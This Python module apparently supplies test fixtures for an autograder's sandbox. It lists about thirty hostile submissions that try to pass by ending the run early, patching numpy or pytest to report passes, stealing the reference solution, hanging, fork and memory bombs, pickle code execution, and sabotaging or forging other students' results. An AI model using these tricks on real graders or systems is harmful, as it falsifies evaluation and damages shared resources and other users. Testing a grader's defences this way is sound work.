"""Attack submissions for the `activations` assignment, as source text.

Each attack wraps the same honest-but-wrong `sigmoid`/`sigmoid_grad` (constant 0.5 and
0.25, right shape and dtype) in a trick that would raise its score, hide it from the
grader, outlive it, or harm others, if the grader were naive. Placeholders, replaced by
the test before grading:

    __TOKEN__   unique per test run; every file and process an attack creates carries it
    __PORT__    a loopback TCP server started by the test (it records connections)
    __REPO__    the repository root (where `solutions/` and the suites live)
    __VICTIM__  another student's folder in the same batch
    __OUT__     the batch's output folder

`NEEDS_ISOLATION` lists the attacks that only the bwrap sandbox stops (file system,
network); in process mode the test skips them and `docs/security.md` says why.
"""

HONEST_WRONG = '''
import numpy as np

def sigmoid(z):
    return np.full_like(np.asarray(z, dtype=float), 0.5)

def sigmoid_grad(z):
    return np.full_like(np.asarray(z, dtype=float), 0.25)
'''

# A process with the token in its command line that sleeps for a long time.
SLEEPER = '''
import os, sys
def _sleeper():
    os.execv(sys.executable, [sys.executable, "-c", "import time; time.sleep(600)", "__TOKEN__"])
'''

ATTACKS = {
    # --- ending the run early, hoping for "no failures" -----------------------------------------
    "sys_exit_at_import": "import sys\nsys.exit(0)\n" + HONEST_WRONG,
    "os_exit_at_import": "import os\nos._exit(0)\n" + HONEST_WRONG,
    "keyboard_interrupt_at_import": "raise KeyboardInterrupt\n" + HONEST_WRONG,
    "sys_exit_in_call": HONEST_WRONG + '''
def sigmoid(z):
    raise SystemExit(0)
''',
    "os_exit_in_call": HONEST_WRONG + '''
import os
def sigmoid(z):
    os._exit(0)
''',
    "keyboard_interrupt_in_call": HONEST_WRONG + '''
def sigmoid(z):
    raise KeyboardInterrupt
''',
    "pytest_exit_in_call": HONEST_WRONG + '''
import pytest
def sigmoid(z):
    pytest.exit("all good", returncode=0)
''',
    # --- changing how the grader compares ------------------------------------------------------
    "patch_numpy_comparisons": HONEST_WRONG + '''
np.testing.assert_allclose = lambda *args, **kwargs: None
np.testing.assert_array_almost_equal = lambda *args, **kwargs: None
np.testing.assert_array_equal = lambda *args, **kwargs: None
np.allclose = lambda *args, **kwargs: True
np.array_equal = lambda *args, **kwargs: True
np.isclose = lambda a, b, *args, **kwargs: np.ones(np.shape(a), dtype=bool)
''',
    "patch_builtins": HONEST_WRONG + '''
import builtins
builtins.abs = lambda x: 0
builtins.max = lambda *args, **kwargs: 0
builtins.all = lambda *args: True
builtins.any = lambda *args: False
''',
    "patch_pytest_internals": HONEST_WRONG + '''
import _pytest.runner, _pytest.reports, pytest

def _passed(item, when, log=True, **kwargs):
    return _pytest.reports.TestReport(item.nodeid, item.location, {}, "passed", None, when, [])

_pytest.runner.call_and_report = _passed
pytest.fail = lambda *args, **kwargs: None
''',
    "register_pytest_plugin": HONEST_WRONG + '''
import pytest

class _AllPass:
    @pytest.hookimpl(hookwrapper=True)
    def pytest_runtest_makereport(self, item, call):
        outcome = yield
        outcome.get_result().outcome = "passed"

try:
    import _pytest.config
    _pytest.config.get_config().pluginmanager.register(_AllPass())
except Exception:
    pass
''',
    "atexit_rewrites_report": HONEST_WRONG + '''
import atexit, json, os

@atexit.register
def _rewrite():
    for name in ("report.json", ".report.json", "results.json"):
        try:
            with open(name, "w") as fh:
                json.dump({"score": 1e9, "tests": []}, fh)
        except OSError:
            pass
''',
    # --- lying return values -------------------------------------------------------------------
    "rigged_eq_object": HONEST_WRONG + '''
class _Liar:
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __lt__(self, other): return True
    def __le__(self, other): return True
    def __abs__(self): return 0.0
    def __sub__(self, other): return 0.0
    def __rsub__(self, other): return 0.0
    def __float__(self): return 0.0
    def __len__(self): return 0
    def __array__(self, dtype=None): raise RuntimeError("no")

def sigmoid(z):
    return _Liar()

def sigmoid_grad(z):
    return _Liar()
''',
    "lying_ndarray_subclass": HONEST_WRONG + '''
class _LyingArray(np.ndarray):
    def __eq__(self, other): return np.ones(self.shape, dtype=bool)
    def __ne__(self, other): return np.zeros(self.shape, dtype=bool)
    def __sub__(self, other): return np.zeros(self.shape)
    def __rsub__(self, other): return np.zeros(self.shape)
    def __array_ufunc__(self, ufunc, method, *inputs, **kwargs):
        return np.zeros(self.shape) if ufunc is not np.isfinite else np.ones(self.shape, dtype=bool)
    def __array_function__(self, func, types, args, kwargs):
        return True

def sigmoid(z):
    return np.full_like(np.asarray(z, dtype=float), 0.5).view(_LyingArray)

def sigmoid_grad(z):
    return np.full_like(np.asarray(z, dtype=float), 0.25).view(_LyingArray)
''',
    "object_array": HONEST_WRONG + '''
class _Anything(float):
    def __eq__(self, other): return True
    def __sub__(self, other): return 0.0

def sigmoid(z):
    return np.array([_Anything(0.5) for _ in np.ravel(z)], dtype=object).reshape(np.shape(z))
''',
    "pickle_payload": HONEST_WRONG + '''
import os

class _Payload:
    def __reduce__(self):
        return (os.system, ("touch /tmp/pwned-__TOKEN__",))

def sigmoid(z):
    return _Payload()
''',
    # --- finding the answers ------------------------------------------------------------------
    "read_reference_from_disk": HONEST_WRONG + '''
import importlib.util, os

def _load_reference():
    candidates = ["__REPO__/solutions/activations.py", "solutions/activations.py", "../solutions/activations.py",
                  "../../solutions/activations.py", "/work/main/solutions/activations.py"]
    for root in ("/", os.path.expanduser("~"), "/tmp", "/work", "/srv", "/autograder"):
        for folder, dirs, files in os.walk(root):
            if folder.count(os.sep) > 5:
                dirs[:] = []
            if os.path.basename(folder) == "solutions" and "activations.py" in files:
                candidates.append(os.path.join(folder, "activations.py"))
    for path in candidates:
        try:
            spec = importlib.util.spec_from_file_location("_stolen", path)
            module = importlib.util.module_from_spec(spec)
            spec.loader.exec_module(module)
            return module
        except Exception:
            continue
    for name in ("solutions.activations", "autograder.reference"):
        try:
            return importlib.import_module(name)
        except Exception:
            continue
    return None

_reference = _load_reference()
if _reference is not None and hasattr(_reference, "sigmoid"):
    sigmoid, sigmoid_grad = _reference.sigmoid, _reference.sigmoid_grad
''',
    "inspect_frames_and_heap": HONEST_WRONG + '''
import gc, sys

def _steal(z):
    z = np.asarray(z)
    frame = sys._getframe(1)
    while frame is not None:
        for value in list(frame.f_locals.values()):
            if isinstance(value, np.ndarray) and value.shape == z.shape and value is not z:
                if not np.array_equal(value, z):
                    return value
        frame = frame.f_back
    for value in gc.get_objects():
        if isinstance(value, np.ndarray) and value.shape == z.shape and value is not z:
            if not np.array_equal(value, z):
                return value
    return np.full_like(z, 0.5, dtype=float)

def sigmoid(z):
    return _steal(z)

def sigmoid_grad(z):
    return _steal(z)
''',
    # --- hanging --------------------------------------------------------------------------------
    "infinite_loop_in_call": HONEST_WRONG + '''
def sigmoid(z):
    while True:
        pass
''',
    "infinite_loop_signals_ignored": HONEST_WRONG + '''
import signal
for _name in ("SIGALRM", "SIGTERM", "SIGINT", "SIGHUP", "SIGUSR1", "SIGXCPU", "SIGVTALRM", "SIGPROF"):
    signal.signal(getattr(signal, _name), signal.SIG_IGN)

def sigmoid(z):
    while True:
        pass
''',
    "gil_holding_c_loop": HONEST_WRONG + '''
def sigmoid(z):
    return sum(range(10**13))
''',
    "sleep_at_import": "import time\ntime.sleep(1000)\n" + HONEST_WRONG,
    # --- resources ------------------------------------------------------------------------------
    "memory_bomb": HONEST_WRONG + '''
def sigmoid(z):
    hoard = []
    while True:
        hoard.append(bytearray(1 << 26))
''',
    "fork_bomb": HONEST_WRONG + SLEEPER + '''
def sigmoid(z):
    try:
        for _ in range(10000):
            if os.fork() == 0:
                _sleeper()
    except OSError:
        pass
    return np.full_like(np.asarray(z, dtype=float), 0.5)
''',
    "escaped_setsid_daemon": HONEST_WRONG + SLEEPER + '''
if os.fork() == 0:                 # the daemon keeps stdout/stderr, i.e. the output pipe, open
    os.setsid()
    if os.fork() == 0:
        _sleeper()
    os._exit(0)
''',
    "huge_stdout": HONEST_WRONG + '''
import sys
_chunk = "x" * (1 << 20)
for _ in range(200):
    sys.stdout.write(_chunk)
sys.stdout.flush()
''',
    "ctypes_segfault": HONEST_WRONG + '''
import ctypes
def sigmoid(z):
    return ctypes.string_at(0)
''',
    "recursion_bomb": HONEST_WRONG + '''
import sys
sys.setrecursionlimit(10**8)

def _deeper(n):
    return _deeper(n + 1) + 1

def sigmoid(z):
    return _deeper(0)
''',
    "loopback_connection": HONEST_WRONG + '''
import socket
try:
    _conn = socket.create_connection(("127.0.0.1", __PORT__), timeout=2)
    _conn.sendall(b"stolen __TOKEN__")
except OSError:
    pass
''',
    "write_files_everywhere": HONEST_WRONG + '''
import os
_CONFTEST = "import pytest\\n@pytest.hookimpl(hookwrapper=True)\\ndef pytest_runtest_makereport(item, call):\\n    (yield).get_result().outcome = 'passed'\\n"
_targets = ["__REPO__/autograder/suites/activations/conftest.py", "__REPO__/conftest.py",
            "__REPO__/tests/conftest.py", "__REPO__/solutions/activations.py", "conftest.py", "../conftest.py",
            "/tmp/conftest-__TOKEN__.py", "/tmp/results-__TOKEN__.json", "/var/tmp/results-__TOKEN__.json",
            "/dev/shm/results-__TOKEN__.json", os.path.expanduser("~/results-__TOKEN__.json")]
for _path in _targets:
    try:
        with open(_path, "w") as _fh:
            _fh.write(_CONFTEST)
    except OSError:
        pass
''',
}

# Attacks that act on other students or the output folder of a batch (graded by `grade_batch`).
BATCH_ATTACKS = {
    "write_into_other_student": HONEST_WRONG + '''
import os
for _path in ["__VICTIM__/activations.py", "__VICTIM__/../bob/activations.py"]:
    try:
        with open(_path, "w") as _fh:
            _fh.write("def sigmoid(z):\\n    raise ValueError('sabotaged')\\n")
    except OSError:
        pass
''',
    "copy_other_student": HONEST_WRONG + '''
import importlib.util
try:
    _spec = importlib.util.spec_from_file_location("_copied", "__VICTIM__/activations.py")
    _module = importlib.util.module_from_spec(_spec)
    _spec.loader.exec_module(_module)
    globals().update({k: v for k, v in vars(_module).items() if not k.startswith("__")})
except Exception:
    pass
''',
    "fake_results_and_late_daemon": HONEST_WRONG + SLEEPER + '''
import json, time
_FAKE = json.dumps({"score": 1000, "tests": [{"name": "all", "score": 1000, "max_score": 1, "status": "passed"}]})

def _fake_everything():
    for _path in ["__OUT__/mallory/results.json", "__OUT__/bob/results.json", "__OUT__/gradebook.csv",
                  "__OUT__/fake-__TOKEN__.json"]:
        try:
            os.makedirs(os.path.dirname(_path), exist_ok=True)
            with open(_path, "w") as _fh:
                _fh.write(_FAKE)
        except OSError:
            pass

_fake_everything()
if os.fork() == 0:                 # a daemon that tries again after the batch wrote its files
    os.setsid()
    if os.fork() == 0:
        if os.fork() == 0:
            _sleeper()
        for _ in range(100):
            time.sleep(0.1)
            _fake_everything()
        os._exit(0)
    os._exit(0)
''',
}

NEEDS_ISOLATION = {"read_reference_from_disk", "loopback_connection", "write_files_everywhere",
                   "write_into_other_student", "copy_other_student", "fake_results_and_late_daemon"}
